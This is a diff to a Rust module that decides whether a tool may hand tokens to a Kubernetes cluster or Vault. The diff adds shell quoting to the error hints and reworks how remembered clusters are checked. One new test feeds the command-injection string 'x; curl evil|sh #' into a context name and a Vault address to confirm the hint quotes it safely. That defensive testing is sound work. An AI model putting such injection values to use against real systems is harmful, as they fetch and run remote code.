@@ -10,6 +10,7 @@ use crate::cluster::{self, Cluster, ClusterFlaw, KnownCluster};
 use crate::config::{ClusterPin, NamedBy, Pem, VaultSettings};
 use crate::error::{ExitCode, Explain, shell_word};
 use crate::keys;
+use crate::memory::Remembered;
 
 /// A cluster that the settings pin a profile to, its CA read.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -196,7 +197,7 @@ impl Explain for TrustError {
         match self {
             Self::OtherCluster { context, .. } => Some(format!(
                 "{{program}} trust{{profile}} --context {}",
-                context.as_deref().map_or("CONTEXT".into(), shell_word)
+                shell_word(context.as_deref().unwrap_or("CONTEXT"))
             )),
             Self::TlsOff { .. } => Some(
                 "remove `insecure-skip-tls-verify` from the kubeconfig, or allow it in the profile's `cluster` pin"
@@ -221,8 +222,10 @@ impl Explain for TrustError {
                     .into(),
             ),
             Self::Declined { .. } => None,
-            Self::NotKept { path, .. } => Some(format!("make the folder of `{path}` writable")),
-            Self::Memory { path, .. } => Some(format!("look at `{path}`, and remove it if you do not miss it")),
+            Self::NotKept { path, .. } => Some(format!("make the folder of `{}` writable", shell_word(path))),
+            Self::Memory { path, .. } => {
+                Some(format!("look at `{}`, and remove it if you do not miss it", shell_word(path)))
+            }
         }
     }
 }
@@ -233,7 +236,20 @@ impl Explain for TrustError {
 /// The refusal, which names the profile's own clusters. The caller fills in `context`.
 pub fn judge(
     pins: &[Pin],
-    remembered: &[KnownCluster],
+    remembered: &[&Remembered],
+    cluster: Option<&Cluster>,
+) -> Result<Verdict, TrustError> {
+    let remembered: Vec<&KnownCluster> = remembered
+        .iter()
+        .filter(|known| pins.is_empty() || known.counts_beside(pins))
+        .map(|known| &known.cluster)
+        .collect();
+    judge_among(pins, &remembered, cluster)
+}
+
+fn judge_among(
+    pins: &[Pin],
+    remembered: &[&KnownCluster],
     cluster: Option<&Cluster>,
 ) -> Result<Verdict, TrustError> {
     let Some(cluster) = cluster else {
@@ -260,8 +276,9 @@ pub fn judge(
     Err(other_cluster(pins, remembered, cluster))
 }
 
-fn other_cluster(pins: &[Pin], remembered: &[KnownCluster], cluster: &Cluster) -> TrustError {
-    let known: Vec<&KnownCluster> = pins.iter().map(|pin| &pin.cluster).chain(remembered).collect();
+fn other_cluster(pins: &[Pin], remembered: &[&KnownCluster], cluster: &Cluster) -> TrustError {
+    let known: Vec<&KnownCluster> =
+        pins.iter().map(|pin| &pin.cluster).chain(remembered.iter().copied()).collect();
     let same_server = known.iter().any(|known| known.is_at(&cluster.server));
     let difference = if same_server && cluster.tls_server_name.is_none() {
         Difference::Authority
@@ -285,10 +302,11 @@ fn other_cluster(pins: &[Pin], remembered: &[KnownCluster], cluster: &Cluster) -
 ///
 /// # Errors
 /// The refusal.
-pub fn judge_claim(pins: &[Pin], remembered: &[KnownCluster], server: &str) -> Result<(), TrustError> {
+pub fn judge_claim(pins: &[Pin], remembered: &[&Remembered], server: &str) -> Result<(), TrustError> {
     judge(pins, remembered, None)?;
     let server = cluster::normalised(server).map_err(TrustError::Cluster)?;
-    let known = pins.iter().map(|pin| &pin.cluster).chain(remembered);
+    let remembered: Vec<&KnownCluster> = remembered.iter().map(|known| &known.cluster).collect();
+    let known = pins.iter().map(|pin| &pin.cluster).chain(remembered.iter().copied());
     let mut known = known.peekable();
     if known.peek().is_none() || known.any(|known| known.is_at(&server)) {
         return Ok(());
@@ -300,7 +318,7 @@ pub fn judge_claim(pins: &[Pin], remembered: &[KnownCluster], server: &str) -> R
         insecure: false,
         authority_pem: None,
     };
-    Err(other_cluster(pins, remembered, &claimed))
+    Err(other_cluster(pins, &remembered, &claimed))
 }
 
 /// Judges whether a Vault may be sent a session, a password or a workload's JWT.
@@ -336,6 +354,10 @@ mod tests {
         }
     }
 
+    fn first(cluster: &Cluster) -> Remembered {
+        Remembered { cluster: cluster.to_known(), accepted: false }
+    }
+
     fn pin(server: &str, authority: &str) -> Pin {
         Pin { cluster: cluster(server, authority).to_known(), insecure: false, without_cluster_info: false }
     }
@@ -347,8 +369,8 @@ mod tests {
     fn the_first_cluster_is_remembered_and_the_second_refused() {
         let prod = cluster(PROD, "ca");
         assert_eq!(judge(&[], &[], Some(&prod)), Ok(Verdict::First(prod.to_known())));
-        assert_eq!(judge(&[], &[prod.to_known()], Some(&prod)), Ok(Verdict::Known));
-        let refusal = judge(&[], &[prod.to_known()], Some(&cluster(EVIL, "evil"))).unwrap_err();
+        assert_eq!(judge(&[], &[&first(&prod)], Some(&prod)), Ok(Verdict::Known));
+        let refusal = judge(&[], &[&first(&prod)], Some(&cluster(EVIL, "evil"))).unwrap_err();
         assert_eq!(
             refusal.to_string(),
             "refused to hand this token to https://evil:6443: it belongs to https://prod:6443"
@@ -359,6 +381,21 @@ mod tests {
     }
 
     #[test]
+    fn a_hint_holds_foreign_words_as_one_word_each() {
+        let foreign = "x; curl evil|sh #";
+        let refusal = TrustError::OtherCluster {
+            server: EVIL.into(),
+            known: PROD.into(),
+            difference: Difference::Server,
+            context: Some(foreign.into()),
+        };
+        assert!(refusal.hint().is_some_and(|hint| hint.contains(" --context 'x; curl evil|sh #'")));
+        let refusal = TrustError::UnknownVault { address: format!("https://{foreign}"), foreign: vec![] };
+        let hint = refusal.hint();
+        assert!(hint.is_some_and(|hint| hint.contains(" --vault-address 'https://x; curl evil|sh #'")));
+    }
+
+    #[test]
     fn a_pinned_profile_goes_nowhere_else() {
         let pins = [pin(PROD, "ca")];
         assert_eq!(judge(&pins, &[], Some(&cluster(PROD, "ca"))), Ok(Verdict::Known));
@@ -366,12 +403,16 @@ mod tests {
         assert!(judge(&pins, &[], Some(&cluster(EVIL, "ca-evil"))).is_err());
         let swapped = judge(&pins, &[], Some(&cluster(PROD, "ca-evil"))).unwrap_err();
         assert_eq!(swapped.why().as_deref(), Some("the kubeconfig names another certificate authority"));
-        let accepted = [cluster(EVIL, "ca-evil").to_known()];
-        assert_eq!(
-            judge(&pins, &accepted, Some(&cluster(EVIL, "ca-evil"))),
-            Ok(Verdict::Known),
-            "`trust` is a person's word"
-        );
+        let evil = cluster(EVIL, "ca-evil");
+        let accepted = Remembered { accepted: true, ..first(&evil) };
+        assert_eq!(judge(&pins, &[&accepted], Some(&evil)), Ok(Verdict::Known), "`trust` is a person's word");
+    }
+
+    #[test]
+    fn a_pin_that_comes_later_closes_what_was_remembered_before() {
+        let old = cluster("https://old:6443", "old");
+        let refusal = judge(&[pin(PROD, "ca")], &[&first(&old)], Some(&old)).unwrap_err();
+        assert!(matches!(refusal, TrustError::OtherCluster { .. }));
     }
 
     #[test]
@@ -379,7 +420,7 @@ mod tests {
         let pins = [pin(PROD, "")];
         let prod = cluster(PROD, "ca");
         assert_eq!(judge(&pins, &[], Some(&prod)), Ok(Verdict::First(prod.to_known())));
-        assert!(judge(&pins, &[prod.to_known()], Some(&cluster(PROD, "evil"))).is_err());
+        assert!(judge(&pins, &[&first(&prod)], Some(&cluster(PROD, "evil"))).is_err());
         assert!(judge(&pins, &[], Some(&cluster(EVIL, "evil"))).is_err());
     }
 
@@ -392,7 +433,7 @@ mod tests {
             refusal.to_string(),
             "refused to hand this token to https://prod:6443: TLS verification is switched off"
         );
-        assert!(judge(&[], &[insecure.to_known()], Some(&insecure)).is_err());
+        assert!(judge(&[], &[&first(&insecure)], Some(&insecure)).is_err());
         let mut allowing = pin(PROD, "ca");
         allowing.insecure = true;
         assert_eq!(judge(&[allowing.clone()], &[], Some(&insecure)), Ok(Verdict::Known));
@@ -402,7 +443,7 @@ mod tests {
 
     #[test]
     fn a_client_that_names_no_cluster_is_served_by_unpinned_profiles_only() {
-        assert_eq!(judge(&[], &[cluster(PROD, "ca").to_known()], None), Ok(Verdict::Known));
+        assert_eq!(judge(&[], &[&first(&cluster(PROD, "ca"))], None), Ok(Verdict::Known));
         let mut pinned = pin(PROD, "ca");
         let refusal = judge(&[pinned.clone()], &[], None).unwrap_err();
         assert_eq!(
